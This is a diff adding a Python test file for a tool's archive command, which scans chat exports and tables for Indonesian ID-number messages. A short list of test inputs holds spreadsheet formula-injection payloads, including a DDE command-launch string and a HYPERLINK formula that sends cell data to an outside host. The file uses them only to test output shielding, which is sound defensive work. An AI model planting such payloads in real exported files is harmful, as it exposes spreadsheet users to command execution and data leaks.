@@ -1,0 +1,584 @@
+"""The command `archive`: many files in, a part of results for each out."""
+
+from __future__ import annotations
+
+import csv
+import datetime
+import errno
+import io
+import json
+import os
+import re
+import signal
+import subprocess
+import sys
+import time
+import tracemalloc
+import zipfile
+from concurrent.futures import ProcessPoolExecutor
+from concurrent.futures.process import BrokenProcessPool
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+pytest.importorskip("pyarrow", reason="needs the extra: integrations")
+
+import pyarrow as pa
+import pyarrow.parquet as pq
+from hypothesis import given
+from hypothesis import strategies as st
+
+import ktpmsg
+from integrations.samples import KK, KTP, MASK, NIK, SECRETS
+from ktpmsg.archiving import parts, run, sources
+from ktpmsg.archiving.days import Days, day_in
+from ktpmsg.archiving.page import page
+from ktpmsg.archiving.spreadsheet import bare, shielded
+from ktpmsg.archiving.tally import Tally
+from ktpmsg.terminal.command import main
+from ktpmsg.terminal.parser import COMMANDS
+
+pytestmark = pytest.mark.integration
+
+FAULTY = f"#SINKRONISASI#{NIK[:-1]}#{KK}#BPJS"
+MENDED = KTP.removeprefix("#") + "."
+CHAT = f"""\
+30/08/25 18.00 - Siti: Selamat sore
+30/08/25 18.01 - Siti: {KTP}
+31/08/25 07.05 - Budi: {FAULTY}
+[1/9/2026 08.00] Ani: {MENDED}
+"""
+TEXTS = [KTP, None, FAULTY, "apa kabar", MENDED]
+
+
+@pytest.fixture(autouse=True)
+def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """A folder with a chat, a zip, and two tables; the command runs beside it."""
+    monkeypatch.chdir(tmp_path)
+    made = tmp_path / "exports"
+    made.mkdir()
+    (made / "chat.txt").write_text(CHAT, "utf-8")
+    with zipfile.ZipFile(made / "WhatsApp Chat with Siti.zip", "w") as zipped:
+        zipped.writestr("Chat with Siti.txt", CHAT)
+        zipped.writestr("IMG-0001.jpg", b"\xff\xd8")
+    days = ["2026-03-01", "2026-03-02 10:00", None, "hari ini", "03/04/2026"]
+    pq.write_table(pa.table({"text": TEXTS, "sent": days}), made / "rows.parquet")
+    with (made / "rows.csv").open("w", encoding="utf-8-sig", newline="") as file:
+        rows = csv.writer(file, delimiter=";")
+        rows.writerow(["id", "text", "sent"])
+        rows.writerows([1, text, day] for text, day in zip(TEXTS, days, strict=True))
+    return made
+
+
+def archive(*arguments: str) -> int:
+    return main(["archive", *arguments, "--out", "found", "--lang", "en"])
+
+
+def results(kind: str = "parquet") -> dict[str, list[dict[str, Any]]]:
+    """The rows of each part, by the source that they name."""
+    found: dict[str, list[dict[str, Any]]] = {}
+    for path in Path("found").glob(f"*.{kind}"):
+        if kind == "parquet":
+            rows = pq.read_table(path).to_pylist()
+        elif kind == "jsonl":
+            rows = [json.loads(line) for line in path.read_text("utf-8").splitlines()]
+        else:
+            with path.open(encoding="utf-8-sig", newline="") as file:
+                rows = list(csv.DictReader(file))
+        found[rows[0]["source"]] = rows
+    return found
+
+
+# --- what is written -----------------------------------------------------------------------------
+
+
+def test_all_kinds_of_files(capsys: pytest.CaptureFixture[str]) -> None:
+    assert archive("exports") == 1
+    found = results()
+    chat, zipped = found["exports/chat.txt"], found["(file 1)"]
+    assert [(r["line"], r["ok"], r["codes"]) for r in chat] == [
+        (2, True, []),
+        (3, False, ["wrong-length"]),
+        (4, True, ["keyword-spelling", "text-after"]),
+    ]
+    assert [r["day"] for r in chat] == [
+        datetime.date(2025, 8, 30),
+        datetime.date(2025, 8, 31),
+        datetime.date(2026, 9, 1),
+    ]
+    spans = [report.span for report in ktpmsg.find(CHAT)]
+    assert [(r["start"], r["end"]) for r in chat] == spans
+    assert [r | {"source": ""} for r in zipped] == [r | {"source": ""} for r in chat]
+    for name in ("exports/rows.parquet", "exports/rows.csv"):
+        rows = found[name]
+        assert [r["line"] for r in rows] == [1, 2, 3, 4, 5]
+        assert [r["day"] for r in rows] == [None] * 5
+        assert [r["start"] for r in rows] == [None] * 5
+    assert [r["ok"] for r in found["exports/rows.parquet"]] == [True, None, False, False, True]
+    assert [r["codes"] for r in found["exports/rows.csv"]][1] == ["empty"]  # a CSV has no null
+    said = capsys.readouterr().out
+    assert "(file 1): 3 messages: 1 good, 1 with repairs, 1 faulty\n" in said
+    assert "\n15 messages: 4 good, 4 with repairs, 7 faulty\n" in said
+    assert re.search(r"\n4 sources, 0 not read; [0-9.]+ seconds, [0-9,]+ messages a second\n", said)
+
+
+def test_days_of_tables() -> None:
+    assert archive("exports/rows.csv", "exports/rows.parquet", "--day-column", "sent") == 1
+    wanted = [
+        datetime.date(2026, 3, 1),
+        datetime.date(2026, 3, 2),
+        None,
+        None,
+        datetime.date(2026, 4, 3),
+    ]
+    for rows in results().values():
+        assert [row["day"] for row in rows] == wanted
+
+
+@pytest.mark.parametrize(
+    "values",
+    [
+        pa.array(["2026-03-01 23:59", None]).cast(pa.timestamp("us")),
+        pa.array([datetime.date(2026, 3, 1), datetime.date(1, 1, 1)]),
+    ],
+)
+def test_days_of_tables_as_dates(folder: Path, values: pa.Array) -> None:
+    pq.write_table(pa.table({"text": [KTP, KTP], "sent": values}), folder / "dated.parquet")
+    assert archive("exports/dated.parquet", "--day-column", "sent") == 0
+    (rows,) = results().values()
+    assert [row["day"] for row in rows] == [datetime.date(2026, 3, 1), None]
+
+
+def test_days_of_numbers_are_none(folder: Path) -> None:
+    pq.write_table(pa.table({"text": [KTP], "sent": [[1]]}), folder / "odd.parquet")
+    assert archive("exports/odd.parquet", "--day-column", "sent") == 0
+    assert results()["exports/odd.parquet"][0]["day"] is None
+
+
+@pytest.mark.parametrize("kind", ["parquet", "jsonl", "csv"])
+def test_nothing_personal_unless_asked_for(kind: str, capsys: pytest.CaptureFixture[str]) -> None:
+    assert archive("exports", "--as", kind, "--report", "page.html") == 1
+    told = capsys.readouterr()
+    text = repr(results(kind)) + Path("page.html").read_text("utf-8") + told.out + told.err
+    text += " ".join(path.name for path in Path("found").iterdir())
+    assert not any(secret in text for secret in (*SECRETS, "Siti", "Surodadi", "BPJS"))
+    assert MASK in text
+    assert archive("exports/chat.txt", "--as", kind, "--reveal", "nik,nama,text") == 1
+    row = results(kind)["exports/chat.txt"][0]
+    assert (bare(row["nik"]), row["nama"], bare(row["text"])) == (NIK, "Siti Aminah", KTP)
+
+
+def test_lines_of_json_and_a_table() -> None:
+    archive("exports/chat.txt", "--as", "jsonl")
+    lines = results("jsonl")["exports/chat.txt"]
+    assert (lines[0]["day"], lines[0]["ok"], lines[1]["codes"]) == (
+        "2025-08-30",
+        True,
+        ["wrong-length"],
+    )
+    archive("exports/chat.txt", "exports/rows.parquet", "--as", "csv")
+    rows = results("csv")
+    table = rows["exports/chat.txt"]
+    assert [(r["ok"], r["codes"], r["problems"]) for r in table[1:]] == [
+        ("no", "wrong-length", "nik: wrong-length"),
+        ("yes", "keyword-spelling; text-after", "-: keyword-spelling; alasan: text-after"),
+    ]
+    assert rows["exports/rows.parquet"][1]["ok"] == ""
+
+
+def test_an_office_s_formats_and_keys(folder: Path) -> None:
+    Path("cek.lark").write_text(
+        '%import fields (nik)\nstart: cek\ncek: "CEK"i "#" nik{"NIK"}\n', "utf-8"
+    )
+    Path("key").write_bytes(b"secret")
+    (folder / "cek.txt").write_text(f"CEK#{NIK}\n{KTP}\n", "utf-8")
+    options = ["--formats", "cek.lark", "--no-builtin", "--key-file", "key"]
+    assert archive("exports/cek.txt", *options) == 0
+    (row,) = results()["exports/cek.txt"]
+    assert (row["kind"], row["nik"], len(row["nik_key"])) == ("cek", MASK, 64)
+
+
+def test_results_are_their_owner_s() -> None:
+    archive("exports")
+    if os.name == "posix":
+        assert {path.stat().st_mode & 0o777 for path in Path("found").glob("*.parquet")} == {0o600}
+
+
+# --- what was done is not done again ---------------------------------------------------------------
+
+
+def test_a_run_goes_on_where_it_was(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    archive("exports")
+    first = {path: path.stat().st_mtime_ns for path in Path("found").glob("*.parquet")}
+    before = capsys.readouterr().out.splitlines()
+    (folder / "chat.txt").write_text(CHAT + CHAT, "utf-8")
+    Path("found", next(p.name for p in first if "rows-csv" in p.name)).unlink()
+    Path(
+        "found", ".ktpmsg", next(p.name for p in first if "rows-parquet" in p.name) + ".json"
+    ).write_text("{")
+    Path("found", "left-over.parquet.part").write_text("unfinished")
+    assert archive("exports") == 1
+    said = capsys.readouterr().out
+    assert said.count("(was there)") == 1
+    assert "(file 1): 3 messages: 1 good, 1 with repairs, 1 faulty (was there)\n" in said
+    assert "exports/chat.txt: 6 messages" in said
+    assert len(before) == len(said.splitlines())
+    now = {path: path.stat().st_mtime_ns for path in Path("found").glob("*.parquet")}
+    assert sum(now[path] == first[path] for path in now) == 1
+    assert not list(Path("found").glob("*.part"))
+
+
+def test_other_options_are_other_results(capsys: pytest.CaptureFixture[str]) -> None:
+    archive("exports/chat.txt")
+    archive("exports/chat.txt", "--strict")
+    assert "was there" not in capsys.readouterr().out
+    assert [row["ok"] for row in results()["exports/chat.txt"]] == [True, False, False]
+
+
+def test_results_are_no_source(capsys: pytest.CaptureFixture[str]) -> None:
+    archive(".")
+    archive(".", "exports/chat.txt")
+    assert "\n4 sources, 0 not read" in capsys.readouterr().out
+
+
+def test_two_runs_at_once(capsys: pytest.CaptureFixture[str]) -> None:
+    with run._alone(Path("found").absolute()):
+        assert archive("exports") == 2
+    assert capsys.readouterr().err == "ktpmsg: another run is writing to that folder\n"
+    assert archive("exports") == 1
+
+
+def test_several_processes(capsys: pytest.CaptureFixture[str]) -> None:
+    archive("exports", "--report", "one.html")
+    one, said = results(), capsys.readouterr().out
+    for path in Path("found").glob("*.parquet"):
+        path.unlink()
+    assert archive("exports", "--jobs", "2", "--report", "two.html") == 1
+    assert results() == one
+    assert sorted(capsys.readouterr().out.splitlines()[:4]) == sorted(said.splitlines()[:4])
+    assert Path("one.html").read_bytes() == Path("two.html").read_bytes()
+
+
+def test_a_process_that_is_killed(monkeypatch: pytest.MonkeyPatch) -> None:
+    class Broken:
+        def result(self) -> None:
+            raise BrokenProcessPool
+
+    monkeypatch.setattr(ProcessPoolExecutor, "submit", lambda *_: Broken())
+    monkeypatch.setattr(run, "as_completed", lambda waiting: waiting)
+    assert archive("exports", "--jobs", "2") == 2
+
+
+def test_interrupted() -> None:
+    """The line and the status of Ctrl-C, what was done stays, and nothing unfinished is left."""
+    code = [
+        sys.executable,
+        "-m",
+        "ktpmsg",
+        "archive",
+        "exports",
+        "pipe",
+        "--out",
+        "found",
+        "--lang",
+        "en",
+    ]
+    os.mkfifo("pipe")  # it is waited for
+    started = subprocess.Popen(code, stderr=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+    deadline = time.monotonic() + 60
+    while len(list(Path("found").glob("*.parquet"))) < 4 and time.monotonic() < deadline:
+        time.sleep(0.05)
+    time.sleep(0.3)
+    started.send_signal(signal.SIGINT)
+    _, told = started.communicate(timeout=60)
+    assert (started.returncode, told) == (130, "ktpmsg: interrupted\n")
+    assert len(list(Path("found").glob("*.parquet"))) == 4
+
+
+# --- what goes wrong ---------------------------------------------------------------------------------
+
+
+def test_what_cannot_be_read_is_told_and_the_rest_goes_on(
+    folder: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    (folder / "broken.zip").write_bytes(b"PK\x03\x04nonsense")
+    (folder / "broken.parquet").write_bytes(b"PAR1nonsense")
+    with zipfile.ZipFile(folder / "pictures.zip", "w") as zipped:
+        zipped.writestr("a.jpg", b"\xff")
+    whole = (folder / "WhatsApp Chat with Siti.zip").read_bytes()
+    (folder / "cut.zip").write_bytes(
+        whole.replace(b"Selamat", b"\x00" * 7)
+    )  # stored: its sum is wrong
+    pq.write_table(pa.table({"text": [1]}), folder / "numbers.parquet")
+    pq.write_table(pa.table({"body": [KTP]}), folder / "other.parquet")
+    (folder / "broken.csv").write_text('text\n"' + "x" * 200_000_00, "utf-8")
+    (folder / "wrong.txt").write_bytes(f"caf\xe9\n{KTP}\n".encode("latin-1"))
+    assert archive("exports", "nowhere.txt") == 2
+    told = sorted(capsys.readouterr().err.splitlines())
+    assert told == [
+        "ktpmsg: exports/broken.csv: a broken CSV file",
+        "ktpmsg: exports/broken.parquet: a broken Parquet file",
+        "ktpmsg: exports/broken.zip: a broken zip file",
+        "ktpmsg: exports/cut.zip: a broken zip file",
+        "ktpmsg: exports/numbers.parquet: the column text does not hold texts",
+        "ktpmsg: exports/other.parquet: there is no column text: name it with --column or --day-column",
+        "ktpmsg: exports/pictures.zip: no .txt is in it",
+        "ktpmsg: exports/wrong.txt: not UTF-8: byte 0xE9 in line 1; save it as UTF-8",
+        "ktpmsg: nowhere.txt: No such file or directory",
+    ]
+    assert len(results()) == 5  # of the text with a wrong byte, too: all the rest of it was read
+    assert [row["ok"] for row in results()["exports/wrong.txt"]] == [True]
+
+
+def test_a_folder_that_cannot_be_listed(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    def walk(path: str, onerror: Any) -> Any:
+        onerror(OSError(errno.EACCES, "Permission denied"))
+        yield str(path), [], ["chat.txt", "picture.jpg"]
+
+    monkeypatch.setattr(os, "walk", walk)
+    assert archive("exports") == 2
+    said = capsys.readouterr()
+    assert said.err == "ktpmsg: exports: Permission denied\n"
+    assert "exports/chat.txt: 3 messages" in said.out
+
+
+def test_a_file_that_cannot_be_opened(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    def refuse(*_: object) -> Any:
+        raise OSError(errno.EIO, "Input/output error")
+        yield
+
+    monkeypatch.setattr(sources, "_in_stream", refuse)
+    assert archive("exports/chat.txt") == 2
+    assert capsys.readouterr().err == "ktpmsg: exports/chat.txt: Input/output error\n"
+    assert list(Path("found").glob("*")) == [Path("found", ".ktpmsg")]
+
+
+def test_nothing_there(capsys: pytest.CaptureFixture[str]) -> None:
+    Path("empty").mkdir()
+    assert archive("empty") == 2
+    assert capsys.readouterr().err == "ktpmsg: there is no file in it\n"
+
+
+@pytest.mark.parametrize(
+    ("arguments", "told"),
+    [
+        (["--reveal", "nik,umur"], "--reveal takes nik, nomor_kk, "),
+        (["--jobs", "0"], "argument --jobs takes a number, 1 or more"),
+        (["--jobs", "x"], "argument --jobs takes a number, 1 or more"),
+        (["--as", "xml"], "argument --as takes parquet, jsonl or csv"),
+        (["--key-file", "nowhere"], "nowhere: No such file or directory"),
+        (["--formats", "nowhere.lark"], "nowhere.lark: No such file or directory"),
+        (["--no-builtin"], "--no-builtin "),
+    ],
+)
+def test_wrong_use(arguments: list[str], told: str, capsys: pytest.CaptureFixture[str]) -> None:
+    assert archive("exports", *arguments) == 2
+    assert capsys.readouterr().err.startswith(f"ktpmsg: {told}")
+    assert not list(Path().glob("found/*.parquet"))
+
+
+def test_examples_of_the_help_are_right(folder: Path) -> None:
+    """What the help shows can be typed as it stands."""
+    folder.joinpath("WhatsApp Chat with Siti.zip").rename("magelang.zip")
+    folder.joinpath("rows.parquet").rename("dump.parquet")
+    Path("dumps").mkdir()
+    pq.write_table(pa.table({"body": TEXTS}), "dumps/a.parquet")
+    (own,) = (command for command in COMMANDS if command.name == "archive")
+    for example in own.examples:
+        assert main(example.split()[1:]) == 1
+    assert Path("page.html").exists()
+
+
+def test_an_empty_key(capsys: pytest.CaptureFixture[str]) -> None:
+    Path("key").write_bytes(b"")
+    assert archive("exports", "--key-file", "key") == 2
+    assert capsys.readouterr().err.startswith("ktpmsg: key is empty")
+
+
+def test_results_that_cannot_be_written(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    Path("found").write_text("a file", "utf-8")
+    assert archive("exports") == 2
+    assert capsys.readouterr().err == "ktpmsg: cannot write the output: Not a directory\n"
+    Path("found").unlink()
+    Path("found").mkdir()
+
+    def full(*_: object) -> None:
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setitem(parts.FORMATS, "jsonl", lambda *_: (full, None))
+    assert archive("exports", "--as", "jsonl") == 2
+    assert capsys.readouterr().err == "ktpmsg: cannot write the output: No space left on device\n"
+    assert not [path for path in Path("found").iterdir() if path.name != ".ktpmsg"]
+    assert archive("exports", "--report", "nowhere/page.html") == 2
+    assert "cannot write the output: No such file or directory" in capsys.readouterr().err
+
+
+def test_without_pyarrow(
+    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setitem(sys.modules, "ktpmsg.archiving.parts", None)
+    assert archive("exports") == 2
+    assert capsys.readouterr().err == (
+        "ktpmsg: the command archive needs pyarrow: pip install 'ktpmsg[arrow]'\n"
+    )
+
+
+# --- what is shown -----------------------------------------------------------------------------------
+
+
+def test_rows_for_programs(capsys: pytest.CaptureFixture[str]) -> None:
+    assert archive("exports/chat.txt", "nowhere.txt", "--json") == 2
+    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
+    assert rows == [
+        {"source": "exports/chat.txt", "good": 1, "mended": 1, "faulty": 1, "failed": False},
+        {"source": "nowhere.txt", "good": 0, "mended": 0, "faulty": 0, "failed": True},
+    ]
+
+
+class Terminal(io.StringIO):
+    def isatty(self) -> bool:
+        return True
+
+
+def test_a_bar_on_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(sys, "stderr", shown := Terminal())
+    assert archive("exports", "nowhere.txt") == 2
+    assert "ktpmsg" in shown.getvalue()
+    assert "nowhere.txt: No such file or directory" in shown.getvalue()
+    for path in Path("found").glob("*.parquet"):
+        path.unlink()
+    monkeypatch.setitem(sys.modules, "rich.console", None)
+    monkeypatch.setattr(sys, "stdout", lines := io.StringIO())
+    assert archive("exports") == 1
+    assert "exports/chat.txt: 3 messages" in lines.getvalue()
+
+
+def test_the_page() -> None:
+    tally = Tally()
+    assert "Pesan warga" in page(tally, datetime.date(2026, 11, 26))
+    for day, kind, verdict, count in (
+        ("2026-01-05", "ktp", "good", 5),
+        ("2026-01-05", "ktp", "faulty", 2),
+        ("2026-01-08", "sinkronisasi", "mended", 1),
+        ("", "", "faulty", 3),
+    ):
+        tally.verdicts["<kantor>", day, kind, verdict] += count
+    tally.codes["<kantor>", "wrong-length"] = 2
+    shown = page(tally, datetime.date(2026, 11, 26))
+    assert shown.count("<g>") == 4  # the days between are there, too
+    assert "&lt;kantor&gt;" in shown
+    assert "<kantor>" not in shown
+    assert "Without a date: 3 messages." in shown
+    assert "The number does not have sixteen digits" in shown or "wrong-length" in shown
+    assert "http" not in shown
+    assert Tally.of_json(json.loads(json.dumps(tally.to_json()))) == tally
+    tally.verdicts["b", "2024-01-05", "ktp", "good"] += 1
+    tally.codes["b", "empty"] = 1
+    shown = page(tally, datetime.date(2026, 11, 26))
+    assert "<title>2026-01: 5 baik" in shown
+    assert "empty (1)" in shown
+    tally.verdicts["b", "1995-01-05", "ktp", "good"] += 1
+    assert "<title>2026: 5 baik" in page(tally, datetime.date(2026, 11, 26))
+
+
+# --- days, cells, memory -------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("header", "day"),
+    [
+        ("30/08/25 18.00 - Siti: ", (2025, 8, 30)),
+        ("8/30/25, 6:00 PM - Siti: ", (2025, 8, 30)),
+        ("[30.08.2025, 18.00] Siti: ", (2025, 8, 30)),
+        ("2023-12-20 10:00 - Siti: ", (2023, 12, 20)),
+        ("26 Mei 2026 10.00 - Siti: ", (2026, 5, 26)),
+        ("26 Agustus 2026 10.00 - Siti: ", (2026, 8, 26)),
+        ("May 26, 2026 10:00 - Siti: ", (2026, 5, 26)),
+        ("30/8 08.00 - Siti: ", None),
+        ("31/31/25 10.00 - Siti: ", None),
+        ("12/12/1812 10.00 - Siti: ", None),
+        ("26 Xyz 2026 10.00 - Siti: ", None),
+    ],
+)
+def test_the_day_in_a_header(header: str, day: tuple[int, int, int] | None) -> None:
+    assert day_in(header) == (day and datetime.date(*day))
+
+
+@pytest.mark.parametrize("size", [1, 7, 64, 100_000])
+def test_days_however_the_text_is_cut(size: int) -> None:
+    text = CHAT.replace("\n", "\r\n") + "x" * 70_000 + "\n" + CHAT.replace("/25", "/24")
+    days = Days()
+    pieces = (text[at : at + size] for at in range(0, len(text), size))
+    read = "".join(days.of_chunks(pieces))
+    assert read == text
+    found = [days.of(report) for report in ktpmsg.find(text)]
+    assert [day and day.year for day in found] == [2025, 2025, 2026, 2024, 2024, 2026]
+    assert Days().of(ktpmsg.check(KTP)) is None
+
+
+SIGNS = "=+-@＝＋－＠"
+DANGEROUS = [sign + "1" for sign in SIGNS] + [
+    *("\t=1", "\r=1", "\n=1", "\t1", "\r1", " =1", "'=1", '"=1', "''=1"),
+    '=HYPERLINK("https://example.org/?"&A1,"x")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    *("3308155508959001", "0812", "1e5", "-3308155508959001", "(5)", ".5", "Mei 9", "1/2"),
+]
+HARMLESS = ["", "Siti Aminah", "'Aisyah", "***", "Jl. Mawar, Blok B; RT tiga", "élan", "'"]
+CELLS = st.text(st.one_of(st.sampled_from("=+-@'\",;|\t\r\n a1＝"), st.characters()))
+
+
+@pytest.mark.parametrize("text", DANGEROUS)
+def test_what_a_spreadsheet_would_change_is_shielded(text: str) -> None:
+    cell = shielded(text)
+    assert cell.startswith("'")
+    assert cell != text
+    assert bare(cell) == text
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_other_texts_stay_as_they_are(text: str) -> None:
+    assert shielded(text) == bare(text) == text
+
+
+@given(CELLS)
+def test_a_cell_can_be_read_back(text: str) -> None:
+    assert bare(shielded(text)) == text
+
+
+@given(CELLS, st.sampled_from(",;\t|"), st.sampled_from(",;"))
+def test_no_cell_begins_with_a_formula(text: str, read_at: str, written_at: str) -> None:
+    """Whichever separator a spreadsheet parts the cells at."""
+    file = io.StringIO(newline="")
+    csv.writer(file, delimiter=written_at, quoting=csv.QUOTE_ALL).writerow(["file", shielded(text)])
+    file.seek(0)
+    for row in csv.reader(file, delimiter=read_at):
+        for cell in row:
+            assert cell.lstrip(' "')[:1] not in set(SIGNS)
+
+
+@given(CELLS)
+def test_no_cell_is_a_number(text: str) -> None:
+    cell = shielded(text)
+    assert cell.startswith("'") or not any(map(str.isdigit, cell))
+
+
+def test_memory_is_bounded(folder: Path) -> None:
+    """A chat of several times the memory that it takes; Arrow's own is not counted."""
+    size = 20_000_000
+    with (folder / "long.txt").open("w", encoding="utf-8") as file:
+        for _ in range(size // 200):
+            file.write("30/08/25 18.00 - Siti: " + "selamat pagi " * 13 + "\n")
+        file.write(KTP)
+    archive("exports/chat.txt")  # what is loaded once
+    tracemalloc.start()
+    assert archive("exports/long.txt") == 0
+    _, most = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert most < size / 3
